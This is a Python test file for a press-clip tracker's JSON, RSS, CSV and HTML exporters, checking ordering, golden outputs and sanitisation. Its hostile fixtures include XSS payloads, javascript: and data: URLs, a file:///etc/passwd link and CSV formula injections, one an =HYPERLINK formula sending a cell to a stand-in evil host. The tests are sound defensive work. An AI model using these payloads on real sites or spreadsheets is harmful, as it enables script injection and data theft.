"""Export writers: selection and order, golden files per format, hostile input, stability."""

from __future__ import annotations

import csv
import io
import json
import os
import random
import re
import xml.etree.ElementTree as ET
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone
from html.parser import HTMLParser
from pathlib import Path

import feedparser
import jsonschema
import pytest
from lxml import etree

from tracker.errors import ConfigError, TrackerError
from tracker.export import (
    CSV_COLUMNS,
    FORMATS,
    Registry,
    SiteInfo,
    export_clips,
    json_schema,
    render,
    render_card,
    render_preview_page,
    select_for_export,
)
from tracker.export.sanitize import clean_text, guard_cell, human_date, iso_utc, safe_http_url
from tracker.models import (
    CampaignConfig,
    ClipStatus,
    ClipView,
    Config,
    MemberConfig,
    Mention,
)

GOLDEN_DIR = Path(__file__).parent / "data" / "export"
UPDATE_GOLDEN = os.environ.get("UPDATE_GOLDEN") == "1"
EXTENSIONS = {"json": "json", "rss": "xml", "csv": "csv", "html": "html"}
T0 = datetime(2026, 11, 20, 14, 3, tzinfo=UTC)


def at(days: float = 0, hours: float = 0) -> datetime:
    return T0 + timedelta(days=days, hours=hours)


def mention(kind: str, target: str) -> Mention:
    return Mention(kind=kind, target_id=target, term=target, field="title", snippet="…")  # type: ignore[arg-type]


def clip(clip_id: str, **fields: object) -> ClipView:
    base: dict[str, object] = {
        "id": clip_id,
        "url": f"https://news.example.com/{clip_id}",
        "canonical_url": f"https://news.example.com/{clip_id}",
        "title": f"Feed title {clip_id}",
        "summary": f"Feed summary for {clip_id}.",
        "outlet": "Example Paper",
        "published_at": T0,
        "first_seen_at": at(hours=1),
        "status": ClipStatus.APPROVED,
        "image_url": None,
    }
    base.update(fields)
    return ClipView(**base)  # type: ignore[arg-type]


REGISTRY = Registry.from_config(
    Config(
        path="feeds.yml",
        members=(
            MemberConfig(id="kendra-brooks", name="Kendra Brooks"),
            MemberConfig(id="nicholas-orourke", name="Nicholas O’Rourke"),
        ),
        campaigns=(CampaignConfig(id="good-cause-eviction", name="Good Cause Eviction"),),
    )
)


def sample_clips() -> list[ClipView]:
    """The golden set, deliberately not in display order."""
    return [
        clip(
            "c-recent",
            title="Council advances landlord anti-collusion bill",
            summary="The council advanced a bill that would ban price-fixing by landlords.",
            outlet="Philadelphia Inquirer",
            published_at=at(days=2),
            mentions=(mention("member", "nicholas-orourke"),),
            updated_at=at(days=2, hours=3),
        ),
        clip(
            "c-ordered-2",
            title="States push back with anti-labor laws",
            outlet="stateline.org",
            outlet_display="Stateline",
            image_url="https://img.example.com/lansing.jpg",
            position=2,
            published_at=at(days=-3),
            mentions=(mention("campaign", "good-cause-eviction"),),
            updated_at=at(days=1),
        ),
        clip(
            "c-featured",
            title="Over 50 local electeds demand Good Cause now",
            summary="Nearly 60 members sent a letter to the Governor demanding Good Cause Eviction.",
            outlet="City & State",
            image_url="https://img.example.com/feed-image.jpg",
            image_override_url="https://img.example.com/rally.jpg",
            image_credit="Mario Tama / Getty Images",
            image_alt="A woman in a mask holding a sign",
            featured=True,
            published_at=at(days=-10),
            mentions=(
                mention("member", "kendra-brooks"),
                mention("campaign", "good-cause-eviction"),
                mention("member", "former-member"),
            ),
            tags=("ny",),
            reviewed_at=at(days=3),
        ),
        clip(
            "c-ordered-1",
            title="feed title the staff did not like",
            headline="Richmond Progressive Alliance’s lessons for local organizers",
            blurb="Ten lessons for other municipal reformers.",
            outlet="Jacobin",
            position=1,
            published_at=at(days=-1),
            mentions=(mention("member", "kendra-brooks"),),
            tags=("ca",),
        ),
        clip(
            "c-undated",
            title="Worker protections when states and localities disagree",
            summary="Local leaders are finding ways to work around state preemption.",
            outlet="Governing",
            published_at=None,
            first_seen_at=at(days=1),
            mentions=(mention("campaign", "good-cause-eviction"),),
        ),
        clip(
            "c-new",
            title="Not reviewed yet",
            status=ClipStatus.NEW,
            published_at=at(days=5),
            updated_at=at(days=9),
        ),
        clip(
            "c-rejected",
            title="Wrong Kendra Brooks",
            status=ClipStatus.REJECTED,
            featured=True,
            published_at=at(days=5),
        ),
    ]


HOSTILE_HEADLINE = (
    "=cmd|' /C calc'!A0 <script>alert(\"x\")</script> \"quoted\" & 'single'"
    " \x00\x07\x1b[31m 🎉 مرحبا بالعالم שלום\u202e"
)
HOSTILE_BLURB = "&lt;b&gt; &amp;amp; <img src=x onerror=alert(1)>\n\n\tSecond\x0bparagraph\x85 end"


def hostile_clips() -> list[ClipView]:
    return [
        clip(
            "hostile-1",
            url="javascript:alert(1)",
            canonical_url="java\nscript:alert(2)",
            title=HOSTILE_HEADLINE,
            summary=HOSTILE_BLURB,
            outlet="+SUM(1,2) <b>Outlet</b>",
            image_url="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=",
            image_override_url=" JaVaScRiPt:alert(3)",
            image_credit="@credit",
            mentions=(mention("member", '"><script>alert(4)</script>'),),
        ),
        clip(
            "hostile-2",
            url="//evil.example.com/x",
            canonical_url='https://news.example.com/safe"onmouseover="alert(5)',
            title="-2+3 שלום עולם",
            summary="",
            outlet="@Outlet",
            image_url="data:text/html,<script>alert(6)</script>",
            image_credit="unused: no safe image",
            published_at=T0.astimezone(timezone(timedelta(hours=-5))),
        ),
        clip(
            "hostile-3",
            url="vbscript:msgbox(1)",
            canonical_url="/relative/only",
            title="Image with a credit that tries markup",
            image_url='https://img.example.com/x.jpg?a=1&b="2"',
            image_credit="</figcaption><script>alert(7)</script>",
            image_alt='" onerror="alert(8)',
        ),
    ]


# ---------------------------------------------------------------- helpers


def golden(name: str, data: bytes) -> None:
    """Compare with tests/data/export/<name>; UPDATE_GOLDEN=1 rewrites it instead."""
    path = GOLDEN_DIR / name
    if UPDATE_GOLDEN:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        return
    assert path.exists(), f"{path} missing: run with UPDATE_GOLDEN=1 to create it"
    assert data == path.read_bytes(), f"{name} differs from golden (UPDATE_GOLDEN=1 to accept)"


def export_all(fmt: str, clips: list[ClipView]) -> bytes:
    return export_clips(
        fmt, clips, REGISTRY, site_title="In The News", site_url="https://example.org/news"
    )


class MarkupCollector(HTMLParser):
    """Every tag with its attributes, and the text, as a browser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse_html(data: str) -> MarkupCollector:
    collector = MarkupCollector()
    collector.feed(data)
    collector.close()
    return collector


CONTROL_CHARS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


# ---------------------------------------------------------------- selection


def test_selection_keeps_only_approved_in_display_order() -> None:
    chosen = select_for_export(sample_clips())
    assert [c.id for c in chosen] == [
        "c-featured",  # featured first, although oldest
        "c-ordered-1",  # then staff positions ascending
        "c-ordered-2",
        "c-recent",  # then newest first
        "c-undated",  # no published_at: first_seen_at stands in
    ]


def test_selection_order_does_not_depend_on_input_order() -> None:
    clips = sample_clips() + [clip(f"tie-{i}", published_at=at(days=-20)) for i in range(5)]
    expected = [c.id for c in select_for_export(clips)]
    rng = random.Random(7)
    for _ in range(5):
        rng.shuffle(clips)
        assert [c.id for c in select_for_export(clips)] == expected
    assert expected[-5:] == [f"tie-{i}" for i in range(5)]  # equal dates: by id


def test_selection_filters_and_limit() -> None:
    clips = sample_clips()
    assert [c.id for c in select_for_export(clips, member="kendra-brooks")] == [
        "c-featured",
        "c-ordered-1",
    ]
    assert [c.id for c in select_for_export(clips, campaign="good-cause-eviction")] == [
        "c-featured",
        "c-ordered-2",
        "c-undated",
    ]
    assert [c.id for c in select_for_export(clips, tag="ca")] == ["c-ordered-1"]
    assert [
        c.id
        for c in select_for_export(clips, campaign="good-cause-eviction", member="kendra-brooks")
    ] == ["c-featured"]
    assert [c.id for c in select_for_export(clips, limit=2)] == ["c-featured", "c-ordered-1"]
    assert select_for_export(clips, limit=0) == []
    assert select_for_export(clips, member="nobody") == []


def test_negative_limit_is_refused() -> None:
    with pytest.raises(ConfigError):
        select_for_export(sample_clips(), limit=-1)


@pytest.mark.parametrize("fmt", FORMATS)
def test_new_and_rejected_clips_never_exported(fmt: str) -> None:
    data = export_all(fmt, sample_clips()).decode()
    assert "c-featured" in data
    assert "c-new" not in data and "Not reviewed yet" not in data
    assert "c-rejected" not in data and "Wrong Kendra Brooks" not in data


# ---------------------------------------------------------------- goldens and stability


@pytest.mark.parametrize("fmt", FORMATS)
def test_golden_sample(fmt: str) -> None:
    golden(f"in-the-news.{EXTENSIONS[fmt]}", export_all(fmt, sample_clips()))


@pytest.mark.parametrize("fmt", FORMATS)
def test_golden_hostile(fmt: str) -> None:
    golden(f"hostile.{EXTENSIONS[fmt]}", export_all(fmt, hostile_clips()))


def test_golden_preview_page() -> None:
    page = render_preview_page(select_for_export(sample_clips()), REGISTRY, SiteInfo())
    golden("preview.html", page.encode())


@pytest.mark.parametrize("fmt", FORMATS)
def test_same_clips_give_byte_identical_output(fmt: str) -> None:
    first = export_all(fmt, sample_clips())
    clips = sample_clips()
    random.Random(3).shuffle(clips)
    assert export_all(fmt, clips) == first


@pytest.mark.parametrize("fmt", FORMATS)
def test_empty_export_is_well_formed(fmt: str) -> None:
    data = export_all(fmt, [])
    if fmt == "json":
        assert json.loads(data) == {
            "version": 1,
            "generated_at": "1970-01-01T00:00:00Z",
            "items": [],
        }
    elif fmt == "rss":
        assert feedparser.parse(data).bozo == 0
    elif fmt == "csv":
        assert list(csv.reader(io.StringIO(data.decode()))) == [list(CSV_COLUMNS)]
    else:
        assert data == b'<section class="in-the-news"></section>\n'


def test_unknown_format_is_a_tracker_error() -> None:
    with pytest.raises(TrackerError, match="unknown export format 'pdf'"):
        render("pdf", [], REGISTRY)


def test_site_url_must_be_http() -> None:
    with pytest.raises(ConfigError):
        SiteInfo(url="javascript:alert(1)")
    with pytest.raises(ConfigError):
        render("rss", [], REGISTRY, site_url="/news")


# ---------------------------------------------------------------- JSON


def json_items(clips: list[ClipView]) -> dict[str, dict[str, object]]:
    document = json.loads(export_all("json", clips))
    return {item["id"]: item for item in document["items"]}


@pytest.mark.parametrize(
    "clips", [sample_clips, hostile_clips, list], ids=["sample", "hostile", "empty"]
)
def test_json_validates_against_shipped_schema(clips: object) -> None:
    document = json.loads(export_all("json", clips()))  # type: ignore[operator]
    schema = json_schema()
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.Draft202012Validator(schema).validate(document)


def test_schema_rejects_what_the_contract_forbids() -> None:
    validator = jsonschema.Draft202012Validator(json_schema())
    document = json.loads(export_all("json", sample_clips()))
    document["items"][0]["url"] = "javascript:alert(1)"
    assert not validator.is_valid(document)
    document = json.loads(export_all("json", sample_clips()))
    document["version"] = 2
    assert not validator.is_valid(document)


def test_json_document_shape_and_staff_edits() -> None:
    document = json.loads(export_all("json", sample_clips()))
    assert document["version"] == 1
    # The newest change among exported clips (c-featured's review), not the clock;
    # c-new changed later but is not exported.
    assert document["generated_at"] == "2026-11-23T14:03:00Z"
    assert document["items"][0]["id"] == "c-featured"

    items = {item["id"]: item for item in document["items"]}
    featured = items["c-featured"]
    assert featured == {
        "id": "c-featured",
        "url": "https://news.example.com/c-featured",
        "headline": "Over 50 local electeds demand Good Cause now",
        "outlet": "City & State",
        "published_at": "2026-11-10T14:03:00Z",
        "blurb": "Nearly 60 members sent a letter to the Governor demanding Good Cause Eviction.",
        "image": {
            "url": "https://img.example.com/rally.jpg",  # staff override beats the feed's image
            "credit": "Mario Tama / Getty Images",
            "alt": "A woman in a mask holding a sign",
        },
        "members": [
            {"id": "former-member", "name": "former-member"},  # unknown id: the id stands in
            {"id": "kendra-brooks", "name": "Kendra Brooks"},
        ],
        "campaigns": [{"id": "good-cause-eviction", "name": "Good Cause Eviction"}],
        "featured": True,
    }
    assert (
        items["c-ordered-1"]["headline"]
        == "Richmond Progressive Alliance’s lessons for local organizers"
    )
    assert items["c-ordered-1"]["blurb"] == "Ten lessons for other municipal reformers."
    assert items["c-ordered-1"]["image"] is None
    assert items["c-ordered-2"]["outlet"] == "Stateline"
    assert items["c-ordered-2"]["image"] == {
        "url": "https://img.example.com/lansing.jpg",
        "credit": "",
        "alt": "",
    }
    assert items["c-undated"]["published_at"] == "2026-11-21T14:03:00Z"


def test_json_is_sorted_indented_utf8_with_trailing_newline() -> None:
    data = export_all("json", sample_clips())
    assert data.endswith(b"}\n")
    text = data.decode("utf-8")
    assert "O’Rourke" in text  # not \u2019
    assert text == json.dumps(json.loads(text), sort_keys=True, indent=2, ensure_ascii=False) + "\n"


def test_generated_at_falls_back_to_reviewed_then_first_seen() -> None:
    only = [clip("a", first_seen_at=at(days=-1), reviewed_at=at(days=4))]
    assert json.loads(export_all("json", only))["generated_at"] == "2026-11-24T14:03:00Z"
    only = [clip("a", first_seen_at=at(days=-1))]
    assert json.loads(export_all("json", only))["generated_at"] == "2026-11-19T14:03:00Z"


def test_timestamps_are_utc_with_z_whatever_the_input_zone() -> None:
    eastern = timezone(timedelta(hours=-5))
    naive = datetime(2026, 11, 20, 14, 3)  # the store's naive values are UTC
    items = json_items(
        [
            clip("aware", published_at=datetime(2026, 11, 20, 9, 3, 59, 999, tzinfo=eastern)),
            clip("naive", published_at=naive),
        ]
    )
    assert items["aware"]["published_at"] == "2026-11-20T14:03:59Z"
    assert items["naive"]["published_at"] == "2026-11-20T14:03:00Z"


def test_odd_dates_and_unicode_spaces_in_links_still_meet_the_schema() -> None:
    # A CMS that writes year 26 for 2026, and a link with a no-break space: the website's parser and
    # the shipped schema must accept what we write.
    url = "https://news.example.com/a\u00a0b\u3000c"
    odd = clip("odd", url=url, canonical_url=url, published_at=datetime(26, 11, 20, 10, 0, tzinfo=UTC))
    document = json.loads(export_clips("json", [odd], REGISTRY))
    jsonschema.Draft202012Validator(json_schema()).validate(document)
    (item,) = document["items"]
    assert item["published_at"] == "0026-11-20T10:00:00Z"
    assert item["url"] == "https://news.example.com/a%C2%A0b%E3%80%80c"


# ---------------------------------------------------------------- RSS


def test_rss_parses_back_with_feedparser() -> None:
    data = export_all("rss", sample_clips())
    parsed = feedparser.parse(data)
    assert parsed.bozo == 0
    assert parsed.version == "rss20"
    assert parsed.feed.title == "In The News"
    assert parsed.feed.link == "https://example.org/news"
    expected = select_for_export(sample_clips())
    assert [e.title for e in parsed.entries] == [c.display_headline for c in expected]
    assert [e.id for e in parsed.entries] == [c.id for c in expected]

    first = parsed.entries[0]
    assert first.guidislink is False
    assert first.link == "https://news.example.com/c-featured"
    assert first.published == "Tue, 10 Nov 2026 14:03:00 GMT"
    assert (
        first.summary
        == "Nearly 60 members sent a letter to the Governor demanding Good Cause Eviction."
    )
    assert first.publisher == "City & State"
    assert first.media_content == [{"url": "https://img.example.com/rally.jpg", "medium": "image"}]
    assert first.media_credit == [{"content": "Mario Tama / Getty Images"}]
    assert [(t.scheme, t.term) for t in first.tags] == [
        ("member", "former-member"),
        ("member", "Kendra Brooks"),
        ("campaign", "Good Cause Eviction"),
    ]
    assert "media_content" not in parsed.entries[1]  # c-ordered-1 has no image


def test_rss_declares_namespaces_and_is_well_formed_xml() -> None:
    data = export_all("rss", sample_clips())
    assert data.startswith(b'<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"')
    root = etree.fromstring(data)
    assert root.nsmap == {
        "media": "http://search.yahoo.com/mrss/",
        "dc": "http://purl.org/dc/elements/1.1/",
    }
    assert root.findtext("channel/lastBuildDate") == "Mon, 23 Nov 2026 14:03:00 GMT"
    guids = root.findall("channel/item/guid")
    assert {g.get("isPermaLink") for g in guids} == {"false"}


# ---------------------------------------------------------------- CSV


def test_csv_rows() -> None:
    data = export_all("csv", sample_clips())
    assert b"\r\n" in data and not data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert [r["id"] for r in rows] == [c.id for c in select_for_export(sample_clips())]
    featured = rows[0]
    assert list(featured) == list(CSV_COLUMNS)
    assert featured["status"] == "approved"
    assert featured["members"] == "former-member; Kendra Brooks"
    assert featured["campaigns"] == "Good Cause Eviction"
    assert featured["featured"] == "true"
    assert featured["position"] == ""
    assert featured["image_url"] == "https://img.example.com/rally.jpg"
    assert featured["image_credit"] == "Mario Tama / Getty Images"
    assert rows[1]["position"] == "1" and rows[1]["featured"] == "false"
    assert rows[1]["image_url"] == rows[1]["image_credit"] == ""


# ---------------------------------------------------------------- HTML


def test_html_fragment_structure() -> None:
    clips = select_for_export(sample_clips())
    fragment = export_all("html", sample_clips()).decode()
    assert fragment.startswith(
        '<section class="in-the-news">\n<article class="itn-card itn-featured"'
    )
    assert fragment.endswith("</section>\n")
    assert fragment.count('<article class="itn-card') == len(clips)
    # The dashboard preview renders exactly the exported card.
    for c in clips:
        assert render_card(c, REGISTRY) in fragment

    card = render_card(clips[0], REGISTRY)
    assert (
        '<figure class="itn-figure"><img src="https://img.example.com/rally.jpg"'
        ' alt="A woman in a mask holding a sign" loading="lazy">'
        "<figcaption>Mario Tama / Getty Images</figcaption></figure>"
    ) in card
    assert (
        '<a href="https://news.example.com/c-featured" rel="noopener" target="_blank">'
        "Over 50 local electeds demand Good Cause now</a></h3>"
    ) in card
    assert (
        '<p class="itn-meta"><span class="itn-outlet" dir="auto">City &amp; State</span> · '
        '<time datetime="2026-11-10T14:03:00Z">November 10, 2026</time></p>'
    ) in card
    assert '<p class="itn-blurb" dir="auto">Nearly 60 members' in card
    assert 'data-members="former-member kendra-brooks"' in card

    no_image = render_card(clips[1], REGISTRY)
    assert "<figure" not in no_image and "<img" not in no_image
    no_credit = render_card(clips[2], REGISTRY)
    assert "<img" in no_credit and "<figcaption" not in no_credit


def test_card_without_safe_link_has_no_anchor() -> None:
    card = render_card(clip("x", url="javascript:alert(1)", canonical_url="ftp://x"), REGISTRY)
    assert "<a " not in card and "href" not in card
    assert '<h3 class="itn-headline" dir="auto">Feed title x</h3>' in card


def test_preview_page_is_standalone_and_scriptless() -> None:
    clips = select_for_export(sample_clips())
    page = render_preview_page(clips, REGISTRY, SiteInfo(title="Press & Media"))
    assert page.startswith("<!doctype html>")
    assert '<meta charset="utf-8">' in page
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    assert "<title>Press &amp; Media</title>" in page
    assert ".itn-card" in page  # the shipped CSS, inline
    assert export_all("html", sample_clips()).decode() in page


def test_human_date_ignores_locale() -> None:
    assert human_date(datetime(2026, 1, 2, 23, 59, tzinfo=UTC)) == "January 2, 2026"


# ---------------------------------------------------------------- hostile input


@pytest.mark.parametrize("fmt", FORMATS)
def test_hostile_output_has_no_scripts_urls_or_controls(fmt: str) -> None:
    text = export_all(fmt, hostile_clips()).decode("utf-8")
    lowered = text.lower()
    assert "javascript:" not in lowered
    assert "vbscript:" not in lowered
    assert "data:" not in lowered
    assert "//evil.example.com" not in lowered
    assert "/relative/only" not in lowered
    assert not CONTROL_CHARS.search(text)
    # Content survives: emoji and right-to-left text are not casualties of cleaning.
    assert "🎉" in text and "مرحبا بالعالم" in text and "שלום" in text
    if fmt in ("html", "rss"):
        # Markup formats escape it; JSON and CSV are data, where "<script" is just text.
        assert "<script" not in lowered


def test_hostile_html_only_has_expected_markup() -> None:
    fragment = export_all("html", hostile_clips()).decode()
    markup = parse_html(fragment)
    allowed = {"section", "article", "figure", "img", "figcaption", "h3", "a", "p", "span", "time"}
    assert {tag for tag, _ in markup.tags} <= allowed
    for tag, attrs in markup.tags:
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        for name in ("href", "src"):
            if name in attrs:
                assert (attrs[name] or "").startswith("https://"), (tag, attrs)
    # Only hostile-3 has a usable image; its quote-laden alt stays inside the attribute.
    images = [attrs for tag, attrs in markup.tags if tag == "img"]
    assert images == [
        {
            "src": "https://img.example.com/x.jpg?a=1&b=%222%22",
            "alt": '" onerror="alert(8)',
            "loading": "lazy",
        }
    ]
    # hostile-2's canonical URL is http(s) and kept, its quote percent-encoded.
    links = [attrs["href"] for tag, attrs in markup.tags if tag == "a"]
    assert links == ["https://news.example.com/safe%22onmouseover=%22alert(5)"]
    # A browser shows the original text, entities and all, not markup.
    shown = "".join(markup.text)
    assert '<script>alert("x")</script> "quoted" & \'single\'' in shown
    assert "&lt;b&gt; &amp;amp; <img src=x onerror=alert(1)> Second paragraph end" in shown
    assert "</figcaption><script>alert(7)</script>" in shown


def test_hostile_json_keeps_text_and_drops_unsafe_urls() -> None:
    items = json_items(hostile_clips())
    first = items["hostile-1"]
    assert first["url"] is None
    assert first["image"] is None
    assert first["headline"] == clean_text(HOSTILE_HEADLINE)
    assert first["headline"].startswith("=cmd|' /C calc'!A0 <script>alert(\"x\")</script>")
    assert first["headline"].endswith("🎉 مرحبا بالعالم שלום\u202e")  # bidi control is content
    assert "\x1b" not in first["headline"] and "[31m" in first["headline"]
    assert first["blurb"] == "&lt;b&gt; &amp;amp; <img src=x onerror=alert(1)> Second paragraph end"
    assert first["members"] == [
        {"id": '"><script>alert(4)</script>', "name": '"><script>alert(4)</script>'}
    ]
    assert items["hostile-2"]["image"] is None
    assert items["hostile-2"]["published_at"] == "2026-11-20T14:03:00Z"
    assert items["hostile-3"]["url"] is None


def test_hostile_rss_parses_and_round_trips_titles() -> None:
    data = export_all("rss", hostile_clips())
    ET.fromstring(data)  # well-formed for strict parsers too
    etree.fromstring(data)
    parsed = feedparser.parse(data)
    assert parsed.bozo == 0
    assert len(parsed.entries) == 3
    assert [e.title for e in parsed.entries] == [
        clean_text(c.display_headline) for c in select_for_export(hostile_clips())
    ]
    # <description> is HTML to readers: the blurb arrives escaped, shown as text.
    first = next(e for e in parsed.entries if e.id == "hostile-1")
    assert "<img" not in first.summary and "&lt;img src=x" in first.summary
    assert "link" not in first or "javascript" not in first.link
    assert "media_content" not in first


def test_rss_channel_description_escapes_a_hostile_site_title() -> None:
    """The channel <description> is HTML to readers, like an item's: site_title arrives as text."""
    title = '<img src=x onerror="alert(1)">News & Views'
    data = export_clips("rss", sample_clips(), REGISTRY, site_title=title, site_url="https://example.org/news")
    channel = ET.fromstring(data).find("channel")
    assert channel is not None
    description = channel.findtext("description") or ""
    assert description.startswith("&lt;img src=x") and "<img" not in description
    parsed = feedparser.parse(data)
    assert "<img" not in parsed.feed.subtitle and "&lt;img src=x" in parsed.feed.subtitle
    assert parsed.feed.title == title  # <title> is plain text by RSS convention: escaped once, by XML


def test_hostile_csv_cells_cannot_become_formulas() -> None:
    rows = list(
        csv.DictReader(io.StringIO(export_all("csv", hostile_clips()).decode(), newline=""))
    )
    by_id = {r["id"]: r for r in rows}
    assert by_id["hostile-1"]["headline"].startswith("'=cmd|")
    assert by_id["hostile-1"]["outlet"] == "'+SUM(1,2) <b>Outlet</b>"
    assert by_id["hostile-1"]["url"] == "" and by_id["hostile-1"]["image_url"] == ""
    assert by_id["hostile-2"]["headline"] == "'-2+3 שלום עולם"
    assert by_id["hostile-2"]["outlet"] == "'@Outlet"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


@pytest.mark.parametrize("cell", [
    "\u200b=HYPERLINK(\"https://evil.example/?\"&A1)",  # zero-width space: not shown, and may be dropped
    " =1+1", "\u00a0+1", "\u2003-1", "\ufeff@SUM(1)", "\u202e=1", "\u2060\u200d=1",  # spaces, BOM, bidi, joiners
    "\uff1dSUM(1,2)", "\uff0b1", "\uff20x",  # the full-width = + @ an East Asian keyboard types
    "\u061c=1", "\u00ad=1", "\u3164=1", "\ufe0f=1",  # Arabic letter mark, soft hyphen, Hangul filler, VS16
])
def test_a_formula_behind_invisible_characters_is_guarded_too(cell: str) -> None:
    assert guard_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Council votes today", "O’Rourke wins", "a=b", "5 - 3", "", "\u200b", " news"])
def test_ordinary_cells_are_left_alone(cell: str) -> None:
    assert guard_cell(cell) == cell


# ---------------------------------------------------------------- sanitising rules


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("https://example.com/a?b=1#c", "https://example.com/a?b=1#c"),
        ("HTTP://Example.com/", "HTTP://Example.com/"),
        ("  https://example.com/x  ", "https://example.com/x"),
        ("https://example.com/a b", "https://example.com/a%20b"),
        ("https://example.com/über", "https://example.com/über"),
        ("https://example.com/<x>", "https://example.com/%3Cx%3E"),
        ("javascript:alert(1)", None),
        ("JaVaScRiPt:alert(1)", None),
        ("java\tscript:alert(1)", None),
        ("\x01javascript:alert(1)", None),
        ("vbscript:msgbox(1)", None),
        ("data:text/html,<script>", None),
        ("file:///etc/passwd", None),
        ("ftp://example.com/x", None),
        ("//example.com/x", None),
        ("/relative", None),
        ("example.com/x", None),
        ("https:example.com", None),
        ("https:\\\\evil.example.com", None),
        ("https://", None),
        ("http://[::1", None),
        ("http://example.com:port/", None),
        ("", None),
        (None, None),
    ],
)
def test_safe_http_url(raw: str | None, expected: str | None) -> None:
    assert safe_http_url(raw) == expected


def test_clean_text() -> None:
    assert clean_text("  a\x00b\x07\tc\n\nd\r\n e\u2028f ") == "ab c d e f"
    assert clean_text("no\xa0break") == "no\xa0break"  # NBSP is meaningful, not layout
    assert clean_text("🎉 عربى עברית\u200f") == "🎉 عربى עברית\u200f"
    assert clean_text("&amp;lt;") == "&amp;lt;"  # never decoded a second time
    assert clean_text("bad \ud800 surrogate \uffff") == "bad surrogate"
    assert clean_text(None) == ""


def test_iso_utc() -> None:
    assert iso_utc(datetime(2026, 11, 24, 12, 0, 0, 123456, tzinfo=UTC)) == "2026-11-24T12:00:00Z"


def test_registry_from_config_and_fallback() -> None:
    assert REGISTRY.member_name("kendra-brooks") == "Kendra Brooks"
    assert REGISTRY.member_name("ghost") == "ghost"
    assert REGISTRY.campaign_name("good-cause-eviction") == "Good Cause Eviction"
    assert REGISTRY.campaign_name("ghost") == "ghost"
    assert Registry().member_name("x") == "x"


def test_clip_fields_override_is_plain_replace() -> None:
    # Staff clearing a blurb to "" means "no blurb", not "use the feed's".
    c = replace(sample_clips()[0], blurb="")
    assert json_items([c])[c.id]["blurb"] == ""
    assert 'class="itn-blurb"' not in render_card(c, REGISTRY)
